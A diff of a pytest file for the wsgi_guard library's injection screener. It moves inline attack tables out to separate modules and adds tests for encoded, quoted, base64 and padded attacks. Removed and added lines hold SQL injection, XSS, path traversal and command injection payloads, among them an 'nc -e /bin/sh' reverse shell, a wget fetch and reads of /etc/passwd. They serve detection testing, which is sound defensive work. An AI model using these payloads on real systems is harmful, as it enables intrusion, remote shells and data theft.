@@ -3,104 +3,102 @@
 from __future__ import annotations
 
 import unicodedata
+from collections.abc import Callable
 from time import thread_time
+from urllib.parse import quote
 
 import pytest
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
+from wsgi_guard.settings.sections import THREATS
+from wsgi_guard.validation.threats import cmdi, files, markup, scripts, sqlsigns, traversal
 from wsgi_guard.validation.threats.classes import CLASSES
+from wsgi_guard.validation.threats.evidence import THRESHOLDS
 from wsgi_guard.validation.threats.normalise import decoded
-from wsgi_guard.validation.threats.screen import FINDERS, Finding, is_plain, screen
+from wsgi_guard.validation.threats.rules import Budget, Rule, strongest
+from wsgi_guard.validation.threats.screen import FINDERS, is_plain, screen
 
-ATTACKS: dict[str, tuple[str, ...]] = {
-    "sqli": (
-        "' OR '1'='1", "' or 1=1--", '" or ""="', "admin'--", "admin' #", "1 OR 1=1", "1) or (1=1", "1' and 1=1 -- -",
-        "' UNION SELECT null, version()--", "1 union all select 1,2,3", "1/**/union/**/select/**/1,2",
-        "x'; DROP TABLE users; --",
-        "1; waitfor delay '0:0:5'--", "1 and sleep(5)", "' and benchmark(5000000,md5(1))#", "1' order by 10--",
-        "' and extractvalue(1,concat(0x7e,version()))--", "x' || (select password from users) || '", "') or ('a'='a",
-        "1 and (select count(*) from users) > 0", "%27%20or%20%271%27%3D%271", "%2527 or 1=1--", "＇ or 1=1--",
-        "'; exec xp_cmdshell('dir')--", "1'/*!50000union*/ /*!50000select*/ 1", "' having 1=1--",
-        "x' and ascii(substring(user(),1,1))>64--",
-    ),
-    "xss": (
-        "<script>alert(1)</script>", "<ScRiPt src=//x>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
-        '" onmouseover="alert(1)', "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
-        "&#106;avascript:alert(1)",
-        "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<b>'>", "%3Cscript%3Ealert(1)%3C/script%3E",
-        "<a href=\"javascript:x()\">",
-        "&lt;script&gt;", "\\u003cscript\\u003e", "＜script＞", "data:text/html,<b>", "';alert(1)//", "${alert(1)}",
-        "<body onload=x>",
-        "<math><a xlink:href=javascript:x>", "<meta http-equiv=refresh content=0>", "<object data=data:text/html,x>",
-        "alert(1)",
-    ),
-    "cmdi": (
-        "; cat /etc/hosts", "| id", "&& whoami", "`id`", "$(id)", "; ls -la", "|| ping -c 4 10.0.0.1",
-        "x;wget http://x/y",
-        "x\ncat /etc/group", "() { :;}; echo x", "{cat,/etc/issue}", "; c''at /etc/issue", ";cat${IFS}/etc/issue",
-        "| nc -e /bin/sh 1.2.3.4 80",
-        "& dir /s", "cmd /c dir", "powershell.exe -enc JABz==", "%0aid",
-    ),
-    "traversal": (
-        "../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
-        "%252e%252e%252fetc%252fpasswd", "/etc/shadow",
-        "....//....//etc/passwd", "..;/..;/admin", "file:///etc/hosts", "php://filter/resource=x", "/proc/self/environ",
-        "c:\\windows\\system32\\cmd.exe", "images/../../secret", "x.php\x00.jpg", "%c0%ae%c0%ae/%c0%ae%c0%ae/x",
-        "/.git/config", "/WEB-INF/web.xml",
-    ),
-    "ldap": ("*)(uid=*))(|(uid=*", "admin)(&)", "x)(|(cn=*))", "*)(objectClass=*", "a))(|(mail=*)"),
-}  # fmt: skip
-INNOCENT = (
-    "O'Brien", "D'Arcy & Sons", "it's 5 o'clock", "rock 'n' roll", "select a plan from our union",
-    "Please select * from the menu",
-    "the students' union will select a new chair", "drop table reservations by 5", "1 or 2 of them", "5 and 6 = 11",
-    "a = b or c = d",
-    "what's up -- nothing", "see #5; thanks", "C# and C++", "e = mc^2", "5 > 3 and 2 < 4", "this is not funny",
-    "having friends over is nice",
-    "order by 5 pm", "group by group", "union jack", "credit union select committee", "insert coin", "null",
-    "true or false",
-    "<3 this", "a < b > c", "<b>bold</b> and <i>italic</i>", "<p style='color: red'>x</p>",
-    "<a href='https://example.org/?a=1&b=2'>x</a>",
-    "**markdown** with `code` and [link](https://example.org)", "JavaScript: the good parts", "on time = good",
-    "onboarding=yes",
-    "https://example.org/path?x=1&y=2#top", "https://example.org/a/../b", "mailto:a@example.org", "john+or@var.es",
-    "R&D; Q&A", "salt & pepper; find the cat", "cat food; dog food", "a | b", "$5 (or $6)",
-    "use `id` as the key name", "100% sure",
-    "..", "v1.2..v1.3", "...and so on...", "and/or", "w/o", "C:\\Users\\Anna\\Documents", "etc/", "/etc", "passwd",
-    "f(x) (y)", "(a) or (b)", "1) one 2) two", "smile :) (really)", "* item",
-    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_123",
-    "aGVsbG8gd29ybGQ=", "query { user(id: 1) { name } }", '{"json": "inside", "n": [1, 2]}',
-    "SELECT is a keyword; so is FROM",
-    "お世話になっております。", "Это 'просто' текст -- да", "L'été, c'est l'Arc de Triomphe; voilà", "naïve café №1 ½",
-    "6' 2\" tall", "the dogs' and cats' food",
-)  # fmt: skip
+from .attacks import ATTACKS, COUNTS
+from .innocent import COUNT, INNOCENT
 
 
-@pytest.mark.parametrize(("kind", "value"), [(kind, value) for kind in ATTACKS for value in ATTACKS[kind]])
-def test_attacks_are_found(kind: str, value: str) -> None:
-    found = screen(value, (kind,))
-    assert found is not None
-    assert found.kind == kind
+@pytest.mark.parametrize("kind", ATTACKS)
+def test_attacks_are_found(kind: str) -> None:
+    assert [value for value in ATTACKS[kind] if [one.kind for one in screen(value, (kind,))] != [kind]] == []
 
 
-@pytest.mark.parametrize("value", INNOCENT)
-def test_ordinary_text_is_left_alone(value: str) -> None:
-    assert screen(value, CLASSES) is None
+def test_ordinary_text_is_left_alone() -> None:
+    assert [(value, found) for value in INNOCENT if (found := screen(value, CLASSES))] == []
 
 
 def test_tables_are_whole() -> None:
-    assert {kind: len(values) for kind, values in ATTACKS.items()} == {
-        "sqli": 27, "xss": 24, "cmdi": 18, "traversal": 16, "ldap": 5,
-    }  # fmt: skip
-    assert len(INNOCENT) == 70
-    assert tuple(FINDERS) == CLASSES
+    assert {kind: len(values) for kind, values in ATTACKS.items()} == COUNTS
+    assert len(INNOCENT) == COUNT
+    assert tuple(FINDERS) == tuple(ATTACKS) == CLASSES == THREATS
+    assert sum(COUNTS.values()) > 700
+    assert COUNT > 450
 
 
 def test_only_the_wanted_classes_are_looked_for() -> None:
-    assert screen("<script>", ("sqli", "cmdi")) is None
-    assert screen("<script>", ("sqli", "xss")) == Finding("xss", "script-tag")
-    assert screen("<script>", ()) is None
+    assert screen("<script>", ("sqli", "cmdi")) == []
+    assert [(one.kind, one.rule) for one in screen("<script>", ("sqli", "xss"))] == [("xss", "script-tag")]
+    assert screen("<script>", ()) == []
+
+
+DISGUISES: dict[str, Callable[[str], str]] = {
+    "upper case": str.upper,
+    "percent": lambda value: "".join(f"%{byte:02x}" for byte in value.encode()),
+    "percent twice": lambda value: quote(quote(value, safe=""), safe=""),
+    "percent thrice": lambda value: quote(quote(quote(value, safe=""), safe=""), safe=""),
+    "percent u": lambda value: "".join(f"%u{ord(char):04X}" for char in value),
+    "full width": lambda value: "".join(chr(ord(char) + 0xFEE0) if "!" <= char <= "~" else char for char in value),
+}
+
+
+@pytest.mark.parametrize("name", DISGUISES)
+def test_encodings_hide_nothing(name: str) -> None:
+    chosen = {
+        "sqli": ("' or 1=1--", "1 union select 1,2,3", "'; drop table users;--"),
+        "xss": ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>"),
+        "cmdi": ("; cat /etc/passwd", "| whoami", "$(id)"),
+        "traversal": ("../../etc/passwd", "..\\..\\boot.ini"),
+        "ldap": ("*)(uid=*", "admin)(&)"),
+        "header": ("x\r\nset-cookie: a=b",),
+    }
+    for kind, values in chosen.items():
+        for value in values:
+            assert screen(DISGUISES[name](value), (kind,)), (kind, value)
+
+
+def test_documents_in_base64_are_opened_once() -> None:
+    assert screen("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", ("xss",))
+    assert screen("JyBvciAxPTEtLQ==", ("sqli",))
+    assert screen("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAA=", CLASSES) == []
+
+
+QUOTED = (
+    ("The injection was `' or 1=1 --` in the form of the old site, and it is gone.", "' or 1=1 --"),
+    ("To see the log run this:\n\n```\nsudo x && rm -rf /tmp/x\n```\n", "sudo x && rm -rf /tmp/x"),
+    ("Then it says:\n\n```html\n<script src='app.js'></script>\n```\n", "<script src='app.js'></script>"),
+    ("We wrote `; cat /srv/x.txt` on the board in that room.", "; cat /srv/x.txt"),
+)
+
+
+def test_a_quotation_weighs_less_than_the_same_as_a_value() -> None:
+    assert [text for text, attack in QUOTED if screen(text, CLASSES) or not screen(attack, CLASSES)] == []
+    assert len(QUOTED) == 4
+    # What could only be meant to run is found in quotations too.
+    assert screen("See:\n\n```html\n<script>alert(document.cookie)</script>\n```\n", ("xss",))
+
+
+def test_levels_ask_for_less_and_less() -> None:
+    assert THRESHOLDS[1] > THRESHOLDS[2] > THRESHOLDS[3] > 0
+    for level in (1, 2, 3):
+        found = [value for value in ("x';", "a;id;b") if screen(value, CLASSES, THRESHOLDS[level])]
+        assert (found != []) == (level > 1)
+    for values in ATTACKS.values():
+        assert all(screen(value, CLASSES, THRESHOLDS[3]) for value in values)
 
 
 # What attacks are made of, glued together at random: the gate must not pass what a rule would match.
@@ -120,7 +118,51 @@ PIECES = st.sampled_from([
 def test_plain_text_matches_no_rule(pieces: list[str], between: str) -> None:
     value = between.join(pieces)
     if is_plain(value):
-        assert [kind for kind in CLASSES if FINDERS[kind](decoded(value))] == []
+        text = decoded(value)
+        hits = [FINDERS[kind](text, Budget(len(text))) for kind in CLASSES]
+        assert [hit for hit in hits if hit is not None and hit.score >= THRESHOLDS[1]] == []
+
+
+ALL_RULES: tuple[Rule, ...] = (
+    *markup.RULES, *scripts.RULES, *cmdi.RULES, *sqlsigns.RULES, *traversal.CLIMBS, *traversal.ON_TEXT, *files.KNOWN,
+)  # fmt: skip
+
+
+def has_word(rule: Rule, text: str) -> bool:
+    if isinstance(rule.words, tuple):
+        return any(word in text for word in rule.words)
+    return rule.words.search(text) is not None
+
+
+@settings(max_examples=300)
+@given(st.sampled_from([value for values in ATTACKS.values() for value in values]), st.data())
+def test_a_rule_matches_only_where_its_words_are(value: str, data: st.DataObject) -> None:
+    """The words are the cheap first look: what they let pass no pattern may match."""
+    at = data.draw(st.integers(0, len(value)))
+    text = decoded(value[:at] + data.draw(st.sampled_from(["", " ", "/**/", "\x00", "x"])) + value[at:])
+    assert [rule.name for rule in ALL_RULES if rule.pattern.search(text) and not has_word(rule, text)] == []
+
+
+@settings(max_examples=50)
+@given(
+    st.sampled_from([
+        "<script>alert(1)</script>", "<img src=x onerror=x()>", "x' or 1=1--", "1' union select 1,2,3--",
+        "; cat /etc/passwd", "php://filter/x", "'; drop table users--",
+    ]),
+    st.integers(0, 9000),
+    st.integers(0, 9000),
+)  # fmt: skip
+def test_length_hides_nothing(attack: str, before: int, after: int) -> None:
+    value = "lorem ipsum " * (before // 12) + attack + " dolor sit" * (after // 10)
+    assert screen(value, CLASSES)
+
+
+def test_a_spent_budget_is_a_finding() -> None:
+    budget = Budget(0)
+    budget.left = 0
+    found = strongest("<script>", markup.RULES, budget)
+    assert found is not None
+    assert (found.rule, found.score) == ("crowded", THRESHOLDS[1])
 
 
 @given(st.text("\u2474\u00bd\u212b\ufb01\uff41\u3400\u00e9\u0430 ab1._-", max_size=30))
